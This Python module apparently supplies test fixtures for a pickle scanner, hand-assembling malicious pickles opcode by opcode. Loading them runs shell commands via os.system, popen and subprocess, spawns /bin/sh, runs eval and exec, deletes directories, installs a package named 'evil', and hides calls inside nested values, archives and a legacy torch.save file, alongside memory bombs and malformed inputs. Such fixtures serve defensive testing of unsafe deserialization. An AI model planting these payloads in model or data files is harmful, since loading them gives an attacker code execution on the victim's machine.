"""Pickles that run something or swell when the standard module reads them; written by hand, opcode by opcode."""

from __future__ import annotations

import struct
from collections.abc import Callable

COMMAND = "touch poisonsets-was-here"
CODE = "open('poisonsets-was-here','w')"


def short(text: str) -> bytes:
    return b"\x8c" + bytes([len(text.encode())]) + text.encode()


def called(module: str, name: str, *arguments: str, protocol: int = 4) -> bytes:
    """A call of a global with strings, in a pickle of that protocol."""
    if protocol == 0:
        texts = b"".join(b"V" + one.encode() + b"\n" for one in arguments)
        return f"c{module}\n{name}\n".encode() + b"(" + texts + b"tR."
    texts = b"".join(map(short, arguments))
    if protocol < 4:
        return b"\x80" + bytes([protocol]) + f"c{module}\n{name}\n".encode() + b"(" + texts + b"tR."
    return b"\x80" + bytes([protocol]) + short(module) + short(name) + b"\x93(" + texts + b"tR."


def wrapped(inner: bytes, before: bytes, after: bytes) -> bytes:
    """A call deep inside other values, without its own protocol and stop."""
    return b"\x80\x04" + before + inner[2:-1] + after + b"."


def long(text: bytes) -> bytes:
    return b"X" + struct.pack("<I", len(text)) + text


def memo_bomb() -> bytes:
    """Ten lists, each ten times the one before: ten billion entries for whoever copies them."""
    data = b"\x80\x04" + short("lol") + b"\x94"
    for level in range(10):
        data += b"](" + b"h" + bytes([level]) + (b"h" + bytes([level])) * 9 + b"e\x94"
    return data + b"."


def bytes_bomb() -> bytes:
    """One string encoded a thousand times; each call would make as many bytes again."""
    encode = b"c_codecs\nencode\nq\x01X\x06\0\0\0latin1q\x02"
    return b"\x80\x02" + long(b"a" * 2000) + b"q\x00" + encode + b"000(" + b"h\x01h\x00h\x02\x86R" * 1000 + b"t."


SYSTEM = called("os", "system", COMMAND)
PICKLES: dict[str, Callable[[], bytes]] = {
    "system-by-protocol-0": lambda: called("os", "system", COMMAND, protocol=0),
    "system-by-protocol-2": lambda: called("os", "system", COMMAND, protocol=2),
    "system-by-protocol-4": lambda: SYSTEM,
    "system-of-posix": lambda: called("posix", "system", COMMAND),
    "system-of-nt": lambda: called("nt", "system", COMMAND),
    "popen": lambda: called("os", "popen", COMMAND),
    "subprocess": lambda: called("subprocess", "getoutput", COMMAND),
    "spawn-of-pty": lambda: called("pty", "spawn", "/bin/sh"),
    "eval": lambda: called("builtins", "eval", CODE),
    "eval-of-python-2": lambda: called("__builtin__", "eval", CODE, protocol=2),
    "exec": lambda: called("builtins", "exec", CODE),
    "compile": lambda: called("builtins", "compile", CODE, "x", "exec"),
    "open": lambda: called("builtins", "open", "poisonsets-was-here", "w"),
    "open-of-io": lambda: called("io", "open", "poisonsets-was-here", "w"),
    "import": lambda: called("builtins", "__import__", "antigravity"),
    "getattr": lambda: called("builtins", "getattr", "os", "system"),
    "runpy": lambda: called("runpy", "run_path", "poisonsets-was-here"),
    "timeit": lambda: called("timeit", "timeit", CODE),
    "code-of-a-bdb": lambda: called("bdb", "Bdb.run", CODE),
    "attribute-of-an-allowed-module": lambda: called("numpy", "f2py.os.system", COMMAND),
    "numpy-loads-again": lambda: called("numpy", "load", "poisonsets-was-here"),
    "numpy-testing": lambda: called("numpy.testing._private.utils", "runstring", CODE, "{}"),
    "torch-loads-again": lambda: called("torch", "load", "poisonsets-was-here"),
    "torch-compiles": lambda: called("torch.jit.unsupported_tensor_ops", "execWrapper", CODE),
    "url-of-webbrowser": lambda: called("webbrowser", "open", "http://localhost/"),
    "socket": lambda: called("socket", "create_connection", "localhost"),
    "file-removed": lambda: called("shutil", "rmtree", "poisons"),
    "library-of-ctypes": lambda: called("ctypes", "CDLL", "libc.so.6"),
    "package-installed": lambda: called("pip", "main", "install", "evil"),
    "logging-configured": lambda: called("logging.config", "listen", "9030"),
    "nested-in-lists": lambda: wrapped(SYSTEM, b"](](](", b"eee"),
    "nested-in-a-dict": lambda: wrapped(SYSTEM, b"}" + short("a"), b"s"),
    "nested-after-honest-values": lambda: wrapped(SYSTEM, b"](K\x01K\x02" + short("text"), b"e"),
    "pickle-in-a-pickle": lambda: (
        b"\x80\x04" + short("pickle") + short("loads") + b"\x93C" + bytes([len(SYSTEM)]) + SYSTEM + b"\x85R."
    ),
    "name-put-together": lambda: b"\x80\x04" + short("o") + short("s") + b"\x86" + short("system") + b"\x93.",
    "name-from-the-memo": lambda: (
        b"\x80\x04" + short("system") + b"\x940" + short("os") + b"h\0\x93" + short(COMMAND) + b"\x85R."
    ),
    "name-of-bytes": lambda: b"\x80\x04C\x02osC\x06system\x93" + short(COMMAND) + b"\x85R.",
    "name-of-a-list": lambda: b"\x80\x04]" + short("system") + b"\x93" + short(COMMAND) + b"\x85R.",
    "name-of-control-characters": lambda: b"c\x1b[2J\nevil\xe2\x80\xae\n.",
    "inst": lambda: b"(S'" + COMMAND.encode() + b"'\nios\nsystem\n.",
    "obj": lambda: b"(cos\nsystem\nS'" + COMMAND.encode() + b"'\no.",
    "newobj": lambda: b"\x80\x02cos\nsystem\n" + short(COMMAND) + b"\x85\x81.",
    "newobj-ex": lambda: b"\x80\x04cos\nsystem\n" + short(COMMAND) + b"\x85}\x92.",
    "build-of-a-state": lambda: b"\x80\x02cbuiltins\nobject\n)R}" + short("__setstate__") + b"cos\nsystem\nsb.",
    "build-of-a-dict": lambda: b"\x80\x02}}b.",
    "persistent-id": lambda: b"\x80\x02" + short(COMMAND) + b"Q.",
    "persistent-id-as-text": lambda: b"Pstorage\n.",
    "extension-of-1-byte": lambda: b"\x80\x02\x82\x01.",
    "extension-of-2-bytes": lambda: b"\x80\x02\x83\x01\0.",
    "extension-of-4-bytes": lambda: b"\x80\x02\x84\x01\0\0\0.",
    "buffer-out-of-band": lambda: b"\x80\x05\x97.",
    "array-of-objects": lambda: b"\x80\x02cnumpy\ndtype\n" + short("O8") + b"\x89\x88\x87R.",
    "array-of-fields": lambda: (
        b"\x80\x02cnumpy\ndtype\n" + short("V8") + b"\x89\x88\x87R(K\x03" + short("|") + b"N)}K\x08K\x01K\0tb."
    ),
    "frozen-set": lambda: b"\x80\x04(K\x01\x91.",
    "memo-bomb": memo_bomb,
    "bytes-bomb": bytes_bomb,
    "text-of-4-GiB": lambda: b"X" + struct.pack("<I", 2**32 - 1) + b"x.",
    "bytes-of-2-to-the-63": lambda: b"\x8e" + struct.pack("<Q", 2**63) + b"x.",
    "frame-of-2-to-the-63": lambda: b"\x80\x04\x95" + struct.pack("<Q", 2**63) + b"N.",
    "integer-of-1-MiB": lambda: b"\x8b" + struct.pack("<I", 1 << 20) + bytes(100) + b".",
    "five-thousand-digits": lambda: b"I" + b"9" * 5000 + b"\n.",
    "deep": lambda: b"N" + b"\x85" * 5000 + b".",
    "marks-alone": lambda: b"(" * 5000 + b".",
    "list-in-itself": lambda: b"]q\0h\0a.",
    "cut": lambda: SYSTEM[:20],
    "broken-after-the-call": lambda: SYSTEM[:-1] + b"\xff\xff",
    "two-pickles": lambda: b"N." + SYSTEM,
    "call-before-the-magic-number": lambda: SYSTEM + b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19.",
    "protocol-6": lambda: b"\x80\x06N.",
    "zip": lambda: b"PK\x03\x04" + bytes(60) + SYSTEM,
    "seven-zip": lambda: b"7z\xbc\xaf\x27\x1c" + bytes(26) + SYSTEM,
    "gzip": lambda: b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + SYSTEM,
    "joblib": lambda: b"\x80\x04" + short("joblib.numpy_pickle") + short("NumpyArrayWrapper") + b"\x93)\x81}b.",
    "empty": lambda: b"",
}
MAGIC = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
VERSION = b"\x80\x02M\xe9\x03."
SYSTEM_INFO = b"\x80\x02}q\0(X\x10\0\0\0protocol_versionq\x01M\xe9\x03X\x0d\0\0\0little_endianq\x02\x88u."


def in_a_torch_file(payload: bytes) -> bytes:
    """The older form of `torch.save`, with the payload as its value."""
    return MAGIC + VERSION + SYSTEM_INFO + payload + b"\x80\x02]."
